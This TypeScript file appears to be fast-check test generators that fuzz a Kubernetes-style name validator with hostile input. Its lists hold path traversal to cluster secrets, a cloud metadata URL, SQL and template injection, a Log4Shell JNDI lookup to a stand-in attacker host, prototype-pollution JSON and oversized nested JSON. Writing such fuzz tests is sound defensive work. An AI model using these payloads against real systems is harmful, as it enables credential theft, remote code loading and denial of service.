import fc, { type Arbitrary } from 'fast-check';
import { anyCharacter } from '../support/any-character.ts';

/** What lies on the prototype of every object, and what leads there. */
const ofPrototypes = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
];

/** Parts of names by which a path could be left, or given another meaning. */
const turns = [
  '../',
  '/..',
  '..',
  '.',
  '/',
  '//',
  '\\',
  '%2e%2e%2f',
  '%2e',
  '%00',
  '?watch=true',
  '?',
  '#',
  ';',
  '&',
  '@',
  ':',
  '*',
];
const ends = ['\n', '\r\n', '\t', '\0', ' ', '\u2028', '\u00a0', '\ufeff', '\u200b'];

/** What looks like a plain letter, or turns a text around, or is none by itself. */
const tricks = [
  'а',
  'ａ',
  'ſ',
  'İ',
  '\u202e',
  'e\u0301',
  '👩‍👩‍👧',
  '\ud800',
  '\udfff\ud800',
  '\u{10ffff}',
  'ǆ',
  'ﬁ',
  '١',
];

const elsewhere = [
  '../../../kube-system/secrets/token',
  '../persistentvolumeclaims/taker',
  'move/../../secrets/token',
  'x/status',
  '%2e%2e/secrets/x',
  'http://169.254.169.254/latest/meta-data',
  '//evil.example.com/x',
  `x' OR '1'='1`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker writes.
  '${jndi:ldap://evil.example.com/x}',
  '{{7*7}}',
];

export const legalName: Arbitrary<string> = fc.oneof(
  fc.constantFrom('a', '0', 'x1', 'a.b', 'a--b', 'default', 'kube-system', 'longshore-system', 'longshore'),
  fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?$/),
  fc.constant('a'.repeat(253)),
);

/** Each may be rejected as a name; some look as if they need not be. */
export const hostileText: Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...ofPrototypes, ...turns, ...ends, ...tricks, ...elsewhere, '') },
  {
    weight: 4,
    arbitrary: fc
      .tuple(legalName, fc.constantFrom(...turns, ...ends, ...tricks), legalName)
      .map((parts) => parts.join('')),
  },
  { weight: 2, arbitrary: fc.tuple(legalName, fc.constantFrom(...ends, ...turns)).map((parts) => parts.join('')) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'A',
      'Move',
      '-a',
      'a-',
      'a..b',
      '.a',
      'a.',
      'a_b',
      'a'.repeat(254),
      'true',
      'null',
      '1',
    ),
  },
  { weight: 4, arbitrary: fc.string({ unit: anyCharacter, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom('x', '/', '\n', '\u202e', 'a-', 'key ').map((sign) => sign.repeat(20_000)) },
);

/** As text of JSON, since some of it cannot be said by a value: numbers beyond all bounds, the same key twice. */
const oddJson = [
  '1e999',
  '-1e999',
  '1e-999',
  '-0',
  '9007199254740993',
  '0.1',
  '123456789012345678901234567890',
  '{"__proto__":{"name":"move","isAdmin":true}}',
  '{"constructor":{"prototype":{"kind":"Bucket"}}}',
  '{"toString":1,"valueOf":1}',
  '{"length":1e9}',
  '{"name":"a","name":"b"}',
  '[[[[[[[[]]]]]]]]',
  '"\\u0000"',
  '"\\ud800"',
];

/** The text of a value of JSON, of whichever type. */
export const hostileJson: Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: hostileText.map((text) => JSON.stringify(text)) },
  { weight: 2, arbitrary: fc.constantFrom('null', 'true', 'false', '0', '1', '-1', '[]', '{}', '[""]', '{"a":{}}') },
  { weight: 2, arbitrary: fc.constantFrom(...oddJson) },
  { weight: 1, arbitrary: fc.json({ maxDepth: 4 }) },
);

/** What is only seldom tried, because it takes long: very long and very deep. */
export const enormousJson: Arbitrary<string> = fc.oneof(
  fc.constantFrom(65_536, 1_000_000).map((length) => JSON.stringify('a'.repeat(length))),
  fc.constantFrom(2_000, 100_000).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
  fc.constantFrom(2_000, 50_000).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
  fc
    .constantFrom(1_000, 20_000)
    .map((count) => `{${Array.from({ length: count }, (_, index) => `"${index}":${index}`)}}`),
);
